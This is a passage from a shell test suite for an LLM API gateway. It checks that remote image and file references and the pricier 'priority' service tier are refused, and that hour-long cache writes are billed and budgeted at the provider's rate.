		run raw "$SB" POST /v1/messages "{\"model\": \"$S4\", \"max_tokens\": 5, \"messages\": [{\"role\": \"user\", \"content\": [$c]}]}"
		echo "$c -> $output"
		[ "${output%% *}" = 400 ]
		echo "${output#* }" | jq -e '.error.type == "invalid_request_error"'
	done
	[ "$(provider_requests)" -eq 0 ]
	# what is in the body itself passes
	run raw "$SB" POST /v1/messages "{\"model\": \"$S4\", \"max_tokens\": 5, \"messages\": [{\"role\": \"user\", \"content\": [{\"type\": \"image\", \"source\": {\"type\": \"base64\", \"media_type\": \"image/png\", \"data\": \"iVBORw0KGgo=\"}}]}]}"
	[ "${output%% *}" = 200 ]
	# OpenAI: image and file URLs, files and items kept at the provider
	stop_lcd
	dbl_stop model
	rm -f "$W/req.jsonl"
	REAL_KEY="sk-proj-REAL-$RANDOM"
	gw_up openai-double.py "$W/turns.json"
	gw_sandbox
	for b in "{\"model\": \"gpt-4o-mini\", \"max_tokens\": 5, \"messages\": [{\"role\": \"user\", \"content\": [{\"type\": \"image_url\", \"image_url\": {\"url\": \"$url\"}}]}]}" \
		'{"model": "gpt-4o-mini", "max_tokens": 5, "messages": [{"role": "user", "content": [{"type": "file", "file": {"file_id": "file-1"}}]}]}' \
		"{\"model\": \"gpt-4o-mini\", \"max_output_tokens\": 5, \"input\": [{\"role\": \"user\", \"content\": [{\"type\": \"input_image\", \"image_url\": \"$url\"}]}]}" \
		"{\"model\": \"gpt-4o-mini\", \"max_output_tokens\": 5, \"input\": [{\"type\": \"message\", \"role\": \"user\", \"content\": [{\"type\": \"input_file\", \"file_url\": \"$url\"}]}]}" \
		'{"model": "gpt-4o-mini", "max_output_tokens": 5, "input": [{"role": "user", "content": [{"type": "input_file", "file_id": "file-1"}]}]}' \
		'{"model": "gpt-4o-mini", "max_output_tokens": 5, "input": [{"type": "item_reference", "id": "msg_1"}]}' \
		'{"model": "gpt-4o-mini", "max_output_tokens": 5, "input": [{"type": "function_call_output", "call_id": "c", "output": [{"type": "input_image", "file_id": "file-1"}]}]}'; do
		path=/v1/responses
		[[ "$b" != *'"messages"'* ]] || path=/v1/chat/completions
		run raw "$SB" POST "$path" "$b"
		echo "$b -> $output"
		[ "${output%% *}" = 400 ]
		echo "${output#* }" | jq -e '.error.type == "invalid_request_error"'
	done
	[ "$(provider_requests)" -eq 0 ]
	# an image in the body (a data: URL) passes
	run raw "$SB" POST /v1/chat/completions '{"model": "gpt-4o-mini", "max_tokens": 5, "messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0KGgo="}}]}]}'
	[ "${output%% *}" = 200 ]
}

@test "security/gateway: a service tier dearer than the price table's rates is refused" {
	REAL_KEY="sk-proj-REAL-$RANDOM$RANDOM"
	turns <<'EOF'
{"turns": [{"text": "a", "usage": {"input_tokens": 1, "output_tokens": 1}}], "loop": true}
EOF
	gw_up openai-double.py "$W/turns.json"
	gw_sandbox
	# priority processing bills about twice the standard rate
	for p in /v1/chat/completions /v1/responses; do
		run raw "$SB" POST "$p" '{"model": "gpt-4o-mini", "max_tokens": 5, "max_output_tokens": 5, "messages": [], "input": "x", "service_tier": "priority"}'
		echo "$p -> $output"
		[ "${output%% *}" = 400 ]
		echo "${output#* }" | jq -e '.error.type == "invalid_request_error" and (.error.message | test("service_tier"))'
	done
	[ "$(provider_requests)" -eq 0 ]
	for t in auto default flex; do
		run raw "$SB" POST /v1/chat/completions "{\"model\": \"gpt-4o-mini\", \"max_tokens\": 5, \"messages\": [], \"service_tier\": \"$t\"}"
		[ "${output%% *}" = 200 ]
	done
}

@test "security/gateway: cache writes kept an hour cost what the provider bills for them, twice the input" {
	# Anthropic bills a write to a cache kept an hour ("ttl": "1h") at twice
	# the input price, a 5-minute one at 1.25 times; the usage says which
	# (usage.cache_creation): both were billed at the 5-minute price
	turns <<'EOF2'
{"turns": [{"text": "a", "usage": {"input_tokens": 10, "output_tokens": 10, "cache_creation_input_tokens": 100000,
            "cache_creation": {"ephemeral_5m_input_tokens": 0, "ephemeral_1h_input_tokens": 100000}}}], "loop": true}
EOF2
	gw_up anthropic-double.py "$W/turns.json"
	gw_sandbox --budget-usd 5
	body="{\"model\": \"$S4\", \"max_tokens\": 10, \"system\": [{\"type\": \"text\", \"text\": \"s\", \"cache_control\": {\"type\": \"ephemeral\", \"ttl\": \"1h\"}}], \"messages\": []}"
	run raw "$SB" POST /v1/messages "$body"
	[ "${output%% *}" = 200 ]
	ledger "sandbox_id = '$SB'"
	# 10 in at $3, 10 out at $15, 100,000 written for an hour at $6 per M
	[ "$(cost_of "sandbox_id = '$SB'")" -eq $((10 * 3000000 + 10 * 15000000 + 100000 * 6000000)) ]
	# and the reservation prices the body's bytes at the hour's write price:
	# a budget with room for them at $3.75 but not at $6 refuses it
	stop_lcd
	dbl_stop model
	gw_up anthropic-double.py "$W/turns.json"
	gw_sandbox --budget-usd "$(awk -v n=${#body} 'BEGIN { printf "%.9f", (n * 5 + 10 * 15) / 1000000 }')"
	run raw "$SB" POST /v1/messages "$body"
	echo "$output"
	[ "${output%% *}" = 402 ]
}
